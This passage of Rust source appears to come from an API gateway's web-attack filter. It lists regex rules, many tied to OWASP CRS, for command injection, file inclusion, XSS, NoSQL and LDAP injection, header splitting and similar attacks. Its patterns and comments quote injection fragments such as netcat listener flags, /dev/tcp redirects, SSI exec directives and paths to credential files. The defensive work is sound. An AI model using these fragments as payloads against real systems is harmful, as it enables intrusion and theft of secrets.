        pattern: r"/(?:[a-z]+[*?]+[a-z]*|[*?]+[a-z]+)/",
    },
    Rule {
        // Bash's old arithmetic expansion (`$[2+2]`, `$[]`; CRS 932130). A JSONPath index
        // (`$[0]`) has no operator.
        id: "rce-234",
        class: Class::Rce,
        pattern: r"\$\[\s*(?:[a-z0-9_]+\s*[-+*/%]\s*[a-z0-9_]+\s*)?\]",
    },
    Rule {
        // A value that is only history expansions (`!!`, `!1`, `!-1!-2`, CRS 932330,
        // 932331): an interactive shell runs an earlier command again.
        id: "rce-235",
        class: Class::Rce,
        pattern: r"^(?:!(?:!|-?\d+))+$",
    },
    Rule {
        // A value that is a program's path (`/bin/ab`, `bin/cscli`, CRS 932160): a parameter
        // a backend runs.
        id: "rce-236",
        class: Class::Rce,
        pattern: r"^/?(?:usr/)?(?:local/)?s?bin/[a-z][a-z0-9_.+-]*$",
    },
    Rule {
        // A separator glued to a command (`;set`, `;who`, `;trap '…'`, `&&$a -nlvp`, `|$u
        // wget`): prose puts a space after `;`, and never a variable after `|`. The English
        // words among these programs are commands only so written.
        id: "rce-237",
        class: Class::Rce,
        pattern: r"[;|&](?:who|top|set|trap|time|more|find|cut|wall|mount|shutdown|reboot|export|unset|source|exec|eval|alias)(?:\s|$|[;|&])|[;|&]\$[a-z_][a-z0-9_]*\s+[-a-z]",
    },
    Rule {
        // Ruby's process calls (CRS 934150): `Process.spawn("id")`, `Kernel.system`,
        // `IO.popen`, `Open3.capture2`.
        id: "rce-239",
        class: Class::Rce,
        pattern: r"\b(?:process\.spawn|kernel\.(?:exec|system|spawn|open|fork)|io\.popen|open3\.(?:popen[23e]?|capture[23e]?|pipeline))\s*\(",
    },
    Rule {
        // A mail command after CRLF (SMTP, POP3, IMAP; CRS 932300 … 932321): a backend that
        // writes the value into its mail session runs it. A command alone on its line, or
        // with its arguments; the value starts with the line break (the previous command
        // ended) unless the command is `MAIL FROM:` or `RCPT TO:`. IMAP commands carry a tag
        // of letters then digits (`a001`).
        id: "rce-240",
        class: Class::Rce,
        pattern: r"\r\n(?:mail\s+from|rcpt\s+to)\s*:|^\r\n(?:(?:ehlo|helo)\s+\S+|(?:data|quit|rset|noop|starttls|help(?:\s+\S+)?)|(?:retr|dele|list|top)\s+\d+(?:\s+\d+)?|apop\s+\S+\s+[0-9a-f]{32}|auth\s+\S+(?:\s+\S+)?)\s*(?:\r?\n|$)|^\r\n(?:[a-z]+\d+\s+(?:examine|select|login|authenticate|status|append|store|uid|copy|list|lsub|search|fetch|expunge|logout|capability|create|delete|rename|subscribe|quit)\b|[a-z0-9]+\s+store\s+\d+(?::\d+)?\s+[+-]?flags\b)",
    },
    Rule {
        id: "lfi-120",
        class: Class::Lfi,
        pattern: r"(?:^|[^a-z0-9._-])/(?:etc|proc|sys|root|boot|dev|tmp)/[a-z0-9_.-]|0x(?:2e|2f|5c)0x(?:2e|2f|5c)|\.(?:sql|bak)\.(?:zip|gz|tar|7z)$|/var/(?:log|run|lib|spool|mail|www)/|^[a-z]:/(?:xampp|wamp64|wamp|inetpub)/|\.\.;|(?:^|/)\.\.(?:\s|%00)",
    },
    Rule {
        id: "php-120",
        class: Class::Php,
        pattern: r"<\?\s*php\b|[\[{]/?php[\]}]|<\?(?:$|\s+(?:echo|print|die|exit|system|exec|eval|passthru|include|require|\$))",
    },
    Rule {
        id: "nodejs-100",
        class: Class::Nodejs,
        pattern: r#"\bprocess\.(?:env|binding|dlopen|kill|exit|mainmodule)\b|\bwhile\s*\(\s*(?:!+\s*(?:0|``|''|\[\]|\{\})|true|1|infinity|this|\[\]|\{\}|``)\s*\)|_\$\$nd_func\$\$_|__js_function|\bfunction\s*\(\s*\)\s*\{|\bnew\s+function\s*\(|this\.constructor\.constructor|module\.exports\s*=|\brequire\s*\(\s*['"`]|child_process|process\.mainmodule|\bxyqktkrfrlvoqyqk|\beval\s*\("#,
    },
    Rule {
        id: "nodejs-120",
        class: Class::Nodejs,
        // Node.js written as code: the console called, `process` and `require` indexed, the
        // module loader reached, a `while` that never ends (`while(!false)`, `while(new Date)`; `while(!true)` ends).
        pattern: r#"\bconsole\s*(?:\.\s*(?:log|info|warn|error|debug|dir|trace|table|assert)\s*(?:\(|\.\s*(?:call|apply|bind)\b)|\[\s*['"`])|\b(?:process|require)\s*\[|\brequire\s*\.\s*main\b|\._load\s*\(|\bwhile\s*\(\s*(?:!+\s*(?:[-+"'`\[{(]|false\b|0|null\b|undefined\b|nan\b|infinity\b|this\b|new\b)|[-+]\s*(?:\d|infinity)|new\s+[a-z]|\(+\s*true|(?:true|false|null|undefined|nan|infinity|string|number|object|array|date)\s*\))"#,
    },
    Rule {
        id: "session-100",
        class: Class::SessionFixation,
        pattern: r#"\.cookie\b[^=]{0,40}=|set-cookie\s*:|http-equiv\s*=\s*['"]?set-cookie"#,
    },
    Rule {
        id: "java-120",
        class: Class::Java,
        // Gadget classes of Java deserialization chains (commons-collections and friends;
        // BeanShell's by their package, `bsh.XThis`: `bsh.net` is a mail domain).
        pattern: r"clonetransformer|forclosure|instantiatefactory|instantiatetransformer|invokertransformer|prototypeclonefactory|prototypeserializationfactory|whileclosure|xmldecoder|com\.sun\.|org\.apache\.commons\.collections|sun\.misc\.|\bbsh\.(?:interpreter|xthis|this|namespace|servlet|util|classpath|reflect|collection|commands|console|eval)\b",
    },
    Rule {
        id: "nosql-100",
        class: Class::Nosql,
        pattern: r"\[\s*\$(?:where|ne|eq|gt|gte|lt|lte|regex|in|nin|exists|expr|function|accumulator|or|and|not|nor|elemmatch)\s*\]|\{\s*.?\$(?:where|ne|gt|gte|lt|lte|regex|nin|exists|expr|function)\b",
    },
    Rule {
        id: "proto-100",
        class: Class::PrototypePollution,
        pattern: r"__proto__|constructor\s*(?:\.|\[\s*.?)\s*prototype",
    },
    Rule {
        id: "crlf-100",
        class: Class::Crlf,
        // A line break, then a header a response or request would act on (CRS 921160's
        // names and the ones a response splitting sets) with a value of that header's
        // shape, a status line, or markup that starts a spliced response. A line of a
        // clinical note is `S:`, `Plan:`, `X-ray:`, `Location: lower back`, `Cookie: 2
        // pieces`, `<0.5 mg/dL`: text, as a multi-line note, a SOAP note or a text file
        // holds it.
        pattern: r"[\r\n]\s*(?:set-cookie2?\s*:\s*[^\s=;:]+=|cookie\s*:\s*[^\s=;:]+=|(?:content-)?location\s*:\s*(?:[a-z][a-z0-9+.-]*:|/|[a-z0-9-]+\.[a-z]{2,}\b)|refresh\s*:\s*(?:\d+\s*(?:[;,]|$)|[a-z][a-z0-9+.-]*:|[a-z0-9-]+\.[a-z]{2,}\b)|content-type\s*:\s*[a-z]+/[a-z0-9.+-]+|content-length\s*:\s*\d|content-disposition\s*:\s*(?:attachment|inline|form-data)|(?:content|transfer)-encoding\s*:\s*(?:chunked|gzip|deflate|br|identity|compress)|content-security-policy\s*:|strict-transport-security\s*:|cache-control\s*:\s*(?:no-|max-age|private|public|must-)|pragma\s*:\s*no-cache|expect\s*:\s*100-continue|trailer\s*:\s*[a-z]+-[a-z0-9-]+\s*(?:$|[\r\n,])|host\s*:\s*[a-z0-9-]+(?:\.[a-z0-9-]+)+(?::\d+)?\s*(?:$|[\r\n])|via\s*:\s*(?:\d|https?/)|forwarded\s*:\s*(?:for|by|host|proto)=|connection\s*:\s*(?:close|keep-alive|upgrade)|upgrade\s*:\s*(?:websocket|h2c|https?/|tls/)|(?:proxy-|www-)?auth(?:orization|enticate)\s*:\s*(?:basic|bearer|digest|negotiate|ntlm)\b|access-control-allow-[a-z-]+\s*:|link\s*:\s*<|(?:remote-(?:addr|ip)|originating-ip|forwarded-(?:for|host|server)|x-(?:forwarded|real|remote|originating|client|original|rewrite|http-method|host|frame|xss|content-type|injected|test|powered)[a-z0-9-]*)\s*:|http/\d(?:\.\d)?\s+\d{3}\b|<\s*(?:html|head|body|meta|script|iframe|svg|img)\b)",
    },
    Rule {
        id: "protocol-140",
        class: Class::Protocol,
        // A request line inside a value (`GET http://x/ HTTP/1.1`, after a line break or
        // not): a request smuggled to a backend that splits on it; Apache mod_proxy's
        // `unix:…|http://` socket target (CVE-2021-40438).
        pattern: r"\b(?:get|post|head|put|delete|options|trace|connect|patch|propfind)\s+(?:/|https?://|\*)\S*\s+http/\d|\bunix:[^|\s]*\|",
    },
];

/// Markup: rules that only a value with `<` can fire, asked first (the refusal names them
/// when others fire too). Apart from [`VALUE_RULES`] for the reason [`CALL_RULES`] are: a
/// tag's attributes keep many DFA states alive, and few values hold a `<`.
const MARKUP_RULES: &[Rule] = &[
    Rule {
        id: "xss-110",
        class: Class::Xss,
        pattern: r"<\s*/?\s*(?:script|iframe|frame|object|embed|applet|meta|base|link|style|svg|math|form|isindex|marquee|xss|i?layer|bgsound)\b",
    },
    Rule {
        id: "xss-111",
        class: Class::Xss,
        pattern: r"<[a-z][^>]*?[\s/]on[a-z]{3,}\s*=",
    },
    Rule {
        // Attributes that send a request when clicked or followed (`formaction`, `ping`), put
        // a value into the page as markup in a front-end framework (`v-html`,
        // `ng-bind-html`, `[innerHTML]`, `dangerouslySetInnerHTML`, `set:html`, Knockout's
        // `data-bind="html:`) or give a page Node's powers (`<webview nodeintegration>`).
        id: "xss-114",
        class: Class::Xss,
        pattern: r"<[a-z][^>]*?[\s/](?:formaction|ping|(?:data-)?v-html|ng-bind-html|dangerouslysetinnerhtml|\[innerhtml\]|(?:bind:)?innerhtml|set:html|nodeintegration|data-bind\s*=\s*['\x22]?\s*html\s*:)(?:\s|=|>|/|$)",
    },
    Rule {
        // A server-side include directive (`<!--#exec cmd="id"-->`, `<!--#include
        // virtual="/etc/passwd"-->`): a server with SSI on runs it when it serves the value
        // back in a page. An HTML comment in text starts `<!-- ` and no word after `#`.
        id: "rce-270",
        class: Class::Rce,
        pattern: r"<!--\s*#\s*(?:exec|include|echo|config|printenv|set|fsize|flastmod|if|elif)\b",
    },
];

/// Assignments: rules that only a value with `=` can fire (a php.ini directive set, an
/// event handler attribute). Apart from [`VALUE_RULES`] because each starts after any space
/// of any value, which keeps DFA states alive through prose.
const ASSIGNMENT_RULES: &[Rule] = &[
    Rule {
        id: "php-200",
        class: Class::Php,
        // A php.ini directive set (`allow_url_include=1`, `opcache.jit…=50`), as a request
        // does to a CGI PHP through `-d` or `PHP_VALUE`: at the start of a value or after a
        // space or `;` (a form's `&session_token=` is a parameter, not a directive).
        pattern: r"(?:^|[\s;])(?:(?:opcache|session|mbstring|pcre|zend|xdebug|mysqli|pdo_mysql|phar|assert|cgi|fastcgi|suhosin|mail|sqlite3|ldap|openssl|curl|date|filter|iconv|intl|soap|xmlrpc)\.[a-z0-9_.]+|sys_temp_dir|realpath_cache_(?:size|ttl)|unserialize_(?:max_depth|callback_func)|allow_url_(?:include|fopen)|auto_(?:prepend|append)_file|disable_(?:functions|classes)|open_basedir|memory_limit|max_execution_time|max_input_time|extension(?:_dir)?|engine|precision|smtp|smtp_port|sendmail_(?:path|from)|display_(?:errors|startup_errors)|error_(?:log|reporting)|log_errors|html_errors|include_path|short_open_tag|file_uploads|upload_tmp_dir|upload_max_filesize|post_max_size|safe_mode|register_globals|expose_php|output_buffering|doc_root|user_dir|enable_dl|user_ini\.filename|variables_order|request_order|default_charset|serialize_precision)\s*=",
    },
    Rule {
        id: "xss-113",
        class: Class::Xss,
        pattern: r#"(?:^|[\s"'/;])on(?:error|load|click|dblclick|mouse[a-z]+|focus[a-z]*|blur|change|submit|key[a-z]+|toggle|animation[a-z]+|transition[a-z]+|pointer[a-z]+|begin|start|end|input|select|scroll|wheel|drag[a-z]*|drop|copy|cut|paste|resize|unload|beforeunload|abort|play[a-z]*|pause|show|hashchange|message|popstate|readystatechange|auxclick|contextmenu|touch[a-z]+|search|invalid|reset|error)\s*="#,
    },
];

/// Shell brace expansion: rules that only a value with `{` can fire.
const BRACE_RULES: &[Rule] = &[Rule {
    id: "rce-210",
    class: Class::Rce,
    // Words a shell expands from a list in braces, no space inside (`{l,-lh}s` is `ls -lh`,
    // `c{a,oun}t`, `{,ifconfig}`, `{id,}`); `{1,2}` holds no word. A list that starts with
    // an empty word and holds two more (`{,echo,#test}`, `{,$'whoami',}`), or a glob that
    // ends with one (`{/?s?/?i?/c?t,}`), is a command line spelled without spaces.
    // A list of words glued to a name before it and to nothing after (`name{given,family}`)
    // is a GraphQL selection (FHIR's `$graphql?query={Patient(id:1){name{given,family}}}`):
    // the name would go before every word a shell makes of it (`namegiven namefamily`), so
    // no command comes of it, while the same list alone, glued to a word after it or with an
    // empty word still counts.
    pattern: r"(?:^|[^a-z0-9_)])\{(?:,[a-z][a-z0-9-]*|[a-z][a-z0-9-]*,)[a-z0-9,-]*\}|\{(?:,[a-z][a-z0-9-]*|[a-z][a-z0-9-]*,)[a-z0-9,-]*\}[a-z0-9_-]|\{,[a-z][a-z0-9,-]*\}|\{[a-z][a-z0-9,-]*,\}|\{,[^{}\s,]+,[^{}\s]*\}|\{[^{}\s,]*[/?*][^{}\s,]*,\}",
}];

/// Rules that only a value with `(` can fire: function calls by name. Apart from
/// [`VALUE_RULES`] because their word lists make the lazy DFA's states costly to build (a
/// value seen for the first time pays for them), and most values hold no parenthesis.
const CALL_RULES: &[Rule] = &[
    Rule {
        // A condition made always true or false with XPath's own functions (`' or true() or
        // ''='`, `' and not(false())`), or a path step's predicate that probes the document
        // (`//user[position()=1]`, `//*[local-name()='password']`): no prose writes `()` after
        // `true`, nor a function inside brackets after `//`.
        id: "xpath-100",
        class: Class::Xpath,
        pattern: r"\b(?:or|and)\s+(?:not\s*\(\s*)?(?:true|false)\s*\(\s*\)|//(?:[a-z][a-z0-9_:-]*|\*)\s*\[\s*(?:position|contains|local-name|name|text|starts-with|last|string-length|count|substring)\s*\(",
    },
    Rule {
        // Server-side JavaScript in a MongoDB `$where`: a shell call (`db.users.insert(`) or
        // a busy wait (`do{…}while(`), which prose never writes.
        id: "nosql-120",
        class: Class::Nosql,
        pattern: r"\bdb\.[a-z_]\w*\.(?:insert|find|update|remove|delete|drop|mapreduce|aggregate|count)\w*\s*\(|\bdo\s*\{[^}]*\}\s*while\s*\(",
    },
    Rule {
        // Shellshock: a value that defines a bash function (CRS 932170, 932171). Bash before
        // 4.3 ran what followed when it imported such a value from the environment.
        id: "rce-230",
        class: Class::Rce,
        pattern: r"^\s*\(\s*\)\s*\{",
    },
    Rule {
        // A subshell whose input or output is redirected (`(sh)0>$d/tcp/…`, CRS 932230).
        id: "rce-232",
        class: Class::Rce,
        pattern: r"\(\s*(?:ba|da|z|k|c|tc)?sh\s*\)\s*[0-9]*[<>]",
    },
    Rule {
        id: "php-130",
        class: Class::Php,
        // PHP functions a request has no business naming, called — names with no meaning
        // in prose (`file(`, `mail(`, `copy(` are left out) — comments allowed before `(`.
        // Names that end words of prose (`mg/dL (fasting)`, `glob (the ball)`) only with the
        // parenthesis right after them.
        pattern: r"(?:gzinflate|gzuncompress|gzdecode|str_rot13|base64_decode|convert_uudecode|call_user_func(?:_array)?|fsockopen)\s*(?:/\*[\s\S]*?\*/\s*)*\(|\b(?:zlib_decode|bzdecompress|convert_uudecode|hex2bin|file_exists|is_file|is_dir|is_readable|is_writable|is_writeable|fileperms|fileowner|filesize|fpassthru|fread|fgets|fwrite|fputs|scandir|opendir|readdir|unlink|rmdir|mkdir|chmod|chown|chgrp|symlink|readlink|tempnam|tmpfile|move_uploaded_file|highlight_file|show_source|parse_ini_file|php_uname|phpversion|getenv|putenv|ini_set|ini_get|ini_restore|ini_alter|set_time_limit|ignore_user_abort|error_reporting|get_current_user|getmypid|getmyuid|gethostbyname|gethostbynamel|gethostname|fsockopen|pfsockopen|stream_socket_client|stream_get_contents|socket_create|curl_init|curl_exec|curl_multi_exec|setcookie|session_start|parse_str|array_map|array_filter|array_walk|array_walk_recursive|usort|uasort|uksort|func_get_args|assert_options|ob_start|register_shutdown_function|register_tick_function|pcntl_exec|pcntl_fork|posix_kill|posix_setuid|posix_getpwuid|posix_uname|escapeshellarg|escapeshellcmd|proc_nice|proc_terminate|proc_get_status|apache_child_terminate|get_defined_vars|get_defined_functions|function_exists|method_exists|class_exists|substr|strrev|str_replace|preg_match|preg_replace_callback|var_dump|print_r|var_export|serialize|mb_ereg_replace|mb_eregi_replace|simplexml_load_string|libxml_disable_entity_loader|ftp_connect|ssh2_connect|ssh2_exec|mysql_query|mysqli_query|pg_query|ldap_connect|exif_read_data|imagecreatefromstring|xmlrpc_decode|yaml_parse|zend_[a-z_]+|runkit_[a-z_]+|intval|floatval|strval|boolval|settype|gettype|is_array|is_string|is_numeric|is_callable|is_object|strip_tags|htmlspecialchars|addslashes|stripslashes|sprintf|vsprintf|fprintf|printf|checkdate|filegroup|filemtime|fileatime|filectime|fileinode|date_add|date_sub|date_create|strtotime|json_decode|ucfirst|lcfirst|nl2br|strtolower|strtoupper|str_pad|str_split|implode|explode|in_array)\s*(?:/\*[\s\S]*?\*/\s*|//[^\n]*\n\s*|#[^\n]*\n\s*)*\(|\b(?:dl|glob|crypt|unpack)\(",
    },
    Rule {
        id: "php-190",
        class: Class::Php,
        // A name PHP would call, then a comment, then the call: prose puts no comment
        // between a word and its parenthesis (`exec //c` + newline + `(x)`, `touch/*a*/()`);
        // or a line break, then a call with no or a quoted argument (`FILE` + CRLF + `()`).
        pattern: r"\b(?:exec|system|passthru|eval|assert|file|touch|range|serialize|unserialize|symlink|include|require|print|echo|copy|mail|link|unlink|chmod|crypt|pack|unpack|checkdate|filegroup|strip_tags|[a-z]+_[a-z_]+)(?:\s*(?:(?:/\*[\s\S]*?\*/|//[^\n]*\n|#[^\n]*\n)\s*)+\(|[ \t]*[\r\n]\s*\(\s*(?:\)|['\x22$]))",
    },
    Rule {
        id: "php-180",
        class: Class::Php,
        // A function of a PHP extension (its prefix and an underscore) called: no prose
        // writes `ldap_get_entries(` or `posix_getegid (`.
        pattern: r"\b(?:posix|ldap|pg|tidy|sodium_crypto|openssl|curl|ftp|ssh2|socket|stream|proc|pcntl|mysqli?|sqlite|libxml|iconv|bz|zip|ob|array|str|preg|oci|odbc|imap|dba|shmop|sem|shm|msg|xmlrpc|yaml|apache|fastcgi|opcache|session|mb|gz|ini)_[a-z0-9_]+\s*(?:/\*.*?\*/\s*)*\(",
    },
];

/// Rules that only a value with `$` can fire: a MongoDB operator written as a JavaScript
/// object's key in a string a query builder splices (`', $where: '1 == 1'`, `$comment:`).
/// Prose writes no `$ne:`.
const DOLLAR_RULES: &[Rule] = &[Rule {
    id: "nosql-130",
    class: Class::Nosql,
    pattern: r"(?:^|[\s,{'\x22])\$(?:where|ne|eq|gt|gte|lt|lte|regex|in|nin|exists|expr|function|accumulator|or|and|nor|elemmatch|comment)\s*:",
}];

/// Rules that only a value with `;` can fire: server-side JavaScript that closes a
/// `$where` string and returns (`';return 'a'=='a`, `0;return true`). Prose's `; return to
/// clinic` returns no value.
const SEMICOLON_RULES: &[Rule] = &[Rule {
    id: "nosql-140",
    class: Class::Nosql,
    pattern: r"['\x22]\s*;\s*return\s*(?:\(|true\b|false\b|['\x22])|^\s*\d+\s*;\s*return\s+(?:true|false)\b",
}];

/// A set asked only about values holding `needs`: every pattern of `rules` needs that byte
/// in every match.
struct Gate {
    needs: u8,
    /// Asked before [`VALUE_RULES`] (its rule is the one a refusal names when both fire).
    before_values: bool,
    rules: &'static [Rule],
}

const GATED: &[Gate] = &[
    Gate {
        needs: b'{',
        before_values: false,
        rules: BRACE_RULES,
    },
    Gate {
        needs: b'<',
        before_values: true,
        rules: MARKUP_RULES,
    },
    Gate {
        needs: b'=',
        before_values: false,
        rules: ASSIGNMENT_RULES,
    },
    Gate {
        needs: b'(',
        before_values: false,
        rules: CALL_RULES,
    },
    Gate {
        needs: b'$',
        before_values: false,
        rules: DOLLAR_RULES,
    },
    Gate {
        needs: b';',
        before_values: false,
        rules: SEMICOLON_RULES,
    },
];

/// A filter closed and another opened: `)(uid=*`, `)(|`, `)!(sn=*`, `)&(cn=`, or a
/// wildcard then a filter of filters (`*(|(mail=*))`: the value closes a search for
/// anything), an extensible match (`)(userAccountControl:1.2.840.113556.1.4.803:=2)`), or a
/// value that ends by opening a wildcard filter (`admin)(*`). Spaces only around operators,
/// so that prose with two parentheticals (`(NGSP) (n=2)`) is not one.
const LDAP_FILTER: &str = r"\)\s*!?\s*\(\s*[&|!]|\)!?\([a-z][a-z0-9.;-]*(?::[a-z0-9.]*:)?[~<>]?=|\)\s*[&|]\s*\(|\*\s*\(\s*[&|!]\s*\(\s*[a-z][a-z0-9.;-]*\s*[~<>]?=|\)\(\*$";

/// Django-style ORM lookups (`created_by__user__password__startswith`): a backend that
/// passes parameter names to its ORM lets them filter on any related field.
const ORM_LOOKUP_NAME: &str = r"[a-z0-9]__(?:i?(?:exact|contains|startswith|endswith|regex)|gte?|lte?|in|isnull|range|has_keys?|has_any_keys|contained_by|overlap|search|trigram_similar|unaccent|iso_year|iso_week_day|week_day|year|quarter|month|week|day|hour|minute|second|date|time)$";
const ORM_LOOKUP_QUOTED: &str = r#"[a-z0-9]__(?:i?(?:exact|contains|startswith|endswith|regex)|gte?|lte?|in|isnull|range|has_keys?|has_any_keys|contained_by|overlap|search)["']\s*:"#;

/// Pattern rules over a name (a query parameter's, a JSON key, a cookie's).
const NAME_RULES: &[Rule] = &[
    Rule {
        id: "nosql-110",
        class: Class::Nosql,
        pattern: r"^\$(?:where|ne|eq|gt|gte|lt|lte|regex|in|nin|exists|expr|function|accumulator|or|and|not|nor|elemmatch)$|\[\s*\$[a-z]+\s*\]",
    },
    Rule {
        id: "proto-110",
        class: Class::PrototypePollution,
        pattern: r"__proto__|^constructor$|constructor\s*\]?\s*(?:\.|\[)\s*prototype|^prototype$",
    },
    Rule {
        id: "session-110",
        class: Class::SessionFixation,
        pattern: r"^(?:jsessionid|phpsessid|phpsession|asp\.net_sessionid|aspsessionid[a-z]*|cfid|cftoken|sessionid|session_id|sessid|laravel_session|ci_session|cakephp|symfony|connect\.sid|meteor_login_token|shiny-token|(?:__(?:host|secure)-)?next-auth\.session-token|_session_id|rack\.session|express:sess|_flask_session|play_session|sails\.sid|koa[.:]sess|zend_session_id|weblogicsession|session-id|_rails_session|jservsession|jwsession|cfsid)$",
    },
    Rule {
        id: "crlf-110",
        class: Class::Crlf,
        pattern: r"[\r\n]",
    },
    Rule {
        id: "ldapi-110",
        class: Class::Ldapi,
        pattern: LDAP_FILTER,
    },
    Rule {
        id: "orm-110",
        class: Class::Orm,
        pattern: ORM_LOOKUP_NAME,
    },
    Rule {
        id: "rfi-130",
        class: Class::Rfi,
        // Parameters of PHP applications that include the URL they are given.
        pattern: r"^(?:_conf\[path\]|mosconfig_absolute_path|_server\[document_root\]|gallery_basedir|path\[docroot\]|appserv_root|config\[root_dir\]|includedir|include_path|phpbb_root_path)$",
    },
];

/// Pattern rules over a whole request path (segments are values too; these need the
/// slashes between them).
const PATH_RULES: &[Rule] = &[
    Rule {
        id: "lfi-130",
        class: Class::Lfi,
        pattern: r"(?:^|/)\.(?:claude|cursor|continue|aider|roo|zed|cline|kiro|windsurf|rovodev|codex|junie|opencode|a0proj|plandex|fabric|n8n|docker|aws|kube|gnupg|vscode|idea|svn|hg)(?:/|$)|(?:^|/)\.(?:aiignore|cursorignore|npmrc|pypirc|netrc|dockercfg)$|(?:^|/)(?:proc|sys)/[a-z]|(?:^|/)@(?:fs|id)/|(?:^|/)wp-content/[^/]*\.log$|\.(?:sql|bak|swp|old|db|rdb|sqlite3?|mdb|pem|p12|pfx|kdbx)(?:\.(?:zip|gz|tar|7z))?$",
    },
    Rule {
        id: "lfi-140",
        class: Class::Lfi,
        // An editor's backup of a file (`index.php~`): served as text, it shows the source.
        pattern: r"[a-z0-9]~(?:/|$)",
    },
    Rule {
        id: "protocol-150",
        class: Class::Protocol,
        // A line break in the path: a backend that logs or forwards it splits the request.
        pattern: r"[\r\n]",
    },
    Rule {
        id: "rfi-140",
        class: Class::Rfi,
        // A URL as a path segment (`/get/https://evil/`): a proxying or including backend
        // fetches it.
        pattern: r"(?:^|/)(?:https?|ftps?|file|gopher):/",
    },
];

struct Compiled {
    /// The value rules; its literal automaton also looks for [`base64_patterns`],
    /// lower-cased ([`value_with`]).
    values: PrefixedSet,
    /// [`base64_patterns`], as written, with the hit of each: what an occurrence the value
    /// rules' scan notes is checked against.
    base64_words: Vec<(Vec<u8>, Hit)>,
    /// One set per [`GATED`] entry, in its order.
    gated: Vec<RegexSet>,
    names: RegexSet,
    paths: RegexSet,
    file_names: RegexSet,
}

/// Build the detectors' pattern sets and the base64 words' automaton now (tens of
/// milliseconds), as the gateway starts, so that no request pays for them. Nothing is searched:
/// a regex keeps a fast search cache for the first thread that searches with it and makes
/// every other thread take one from a locked pool, and that first thread must be a worker.
pub fn compile() {
    let _ = compiled();
    let _ = base64_word_automaton();
}

fn compiled() -> &'static Compiled {
    static COMPILED: OnceLock<Compiled> = OnceLock::new();
    COMPILED.get_or_init(|| {
        // The patterns are constants of this file, checked by the unit tests: a failure here
        // is a bug caught before release, and an empty set detects nothing rather than panic.
        // ASCII semantics (`\b`, classes): the lazy DFA then runs on any input, where Unicode
        // word boundaries would send Japanese text to the slow engine.
        let set = |rules: &[Rule]| {
            RegexSetBuilder::new(rules.iter().map(|r| r.pattern))
                .unicode(false)
                .build()
                .unwrap_or_else(|_| RegexSet::empty())
        };
        let (words, hits) = base64_patterns();
        let base64_words: Vec<(Vec<u8>, Hit)> = words
            .into_iter()
            .map(String::into_bytes)
            .zip(hits)
            .collect();
        Compiled {
            values: PrefixedSet::with_extra(
                VALUE_RULES,
                base64_words
                    .iter()
                    .map(|(word, _)| word.to_ascii_lowercase())
                    .collect(),
            ),
            base64_words,
            gated: GATED.iter().map(|g| set(g.rules)).collect(),
            names: set(NAME_RULES),
            paths: set(PATH_RULES),
            file_names: set(FILE_NAME_RULES),
        }
    })
}

/// A set of rules asked "which is the first to match?" as one `RegexSet` would answer, for
/// less. A pattern whose every match starts with one of a few literals (`java.lang.` …,
/// `union` …) is run alone, and only on values holding one of those literals, found by one
/// `aho-corasick` DFA built whole at start; the patterns with no such literals stay in a
/// set of their own. Why: a lazy DFA over all the patterns builds each state it meets for the
/// first time at the cost of every pattern's NFA, and distinct text meets new states all
/// along (docs/inspect.md: two thirds of a first pass over distinct FHIR text).
struct PrefixedSet {
    rules: &'static [Rule],
    /// The rules without usable prefix literals, and their indexes in `rules`.
    unprefixed: RegexSet,
    unprefixed_rules: Vec<usize>,
    /// Every prefix literal of the other rules; `literal_rule` maps each to its rule. Should
    /// the automaton not build, every such rule is a candidate on every value: slower, never
    /// blind.
    literals: Option<aho_corasick::AhoCorasick>,
    literal_rule: Vec<usize>,
    /// Each prefixed rule's own pattern (`None` for the unprefixed ones).
    alone: Vec<Option<regex::bytes::Regex>>,
    /// Literals looked for in the same scan for another detector: pattern `literal_rule.len()
    /// + k` of the automaton is the `k`th of them.
    extra: usize,
}

/// The shortest prefix literal that gates a rule of a [`PrefixedSet`].
const MIN_PREFIX: usize = 2;

impl PrefixedSet {
    /// The set of `rules`, its literal automaton also looking for `extra`
    /// ([`PrefixedSet::first_noting`] reports where they occur).
    fn with_extra(rules: &'static [Rule], extra: Vec<Vec<u8>>) -> PrefixedSet {
        use regex_syntax::hir::literal::{ExtractKind, Extractor};
        assert!(rules.len() <= 128, "candidates are a 128-bit mask");
        let mut literals: Vec<Vec<u8>> = Vec::new();
        let mut literal_rule = Vec::new();
        let mut alone = Vec::new();
        let mut unprefixed = Vec::new();
        for (index, rule) in rules.iter().enumerate() {
            // The same syntax the sets compile: bytes, ASCII classes.
            let prefixes = regex_syntax::ParserBuilder::new()
                .unicode(false)
                .utf8(false)
                .build()
                .parse(rule.pattern)
                .ok()
                .and_then(|hir| {
                    let mut extractor = Extractor::new();
                    extractor
                        .kind(ExtractKind::Prefix)
                        .limit_class(8)
                        .limit_repeat(4)
                        .limit_literal_len(6)
                        .limit_total(2_000);
                    let seq = extractor.extract(&hir);
                    // Every match starts with one of these. A one-byte literal (`(`, `;`) is
                    // in most prose: such a rule would run alone on most values, a scan more.
                    seq.literals()
                        .filter(|l| !l.is_empty() && l.iter().all(|l| l.len() >= MIN_PREFIX))
                        .map(|l| l.iter().map(|l| l.as_bytes().to_vec()).collect::<Vec<_>>())
                });
            let single = prefixes.as_ref().and_then(|_| {
                regex::bytes::RegexBuilder::new(rule.pattern)
                    .unicode(false)
                    .build()
                    .ok()
            });
            match (prefixes, single) {
                (Some(prefixes), Some(single)) => {
                    literal_rule.extend(std::iter::repeat_n(index, prefixes.len()));
                    literals.extend(prefixes);
                    alone.push(Some(single));
                }
                _ => {
                    unprefixed.push(index);
                    alone.push(None);
                }
            }
        }
        let extra_count = extra.len();
        literals.extend(extra);
        let literals = aho_corasick::AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .build(&literals)
            .ok();
        PrefixedSet {
            rules,
            unprefixed: RegexSetBuilder::new(unprefixed.iter().map(|&i| rules[i].pattern))
                .unicode(false)
                .build()
                .unwrap_or_else(|_| RegexSet::empty()),
            unprefixed_rules: unprefixed,
            literals,
            literal_rule,
            alone,
            extra: extra_count,
        }
    }

    /// Whether the extra literals are looked for: `false` when the automaton did not build.
    fn notes_extra(&self) -> bool {
        self.extra > 0 && self.literals.is_some()
    }

    /// The first rule, in `rules` order, that matches `text`; `note` is told of every
    /// occurrence of an extra literal in `text` (its index among the extras, where it is)
    /// when [`PrefixedSet::notes_extra`].
    fn first_noting(
        &self,
        text: &str,
        mut note: impl FnMut(usize, std::ops::Range<usize>),
    ) -> Option<Hit> {
        let bytes = text.as_bytes();
        let mut first = None;
        if self.unprefixed.is_match(bytes) {
            first = self
                .unprefixed
                .matches(bytes)
                .iter()
                .next()
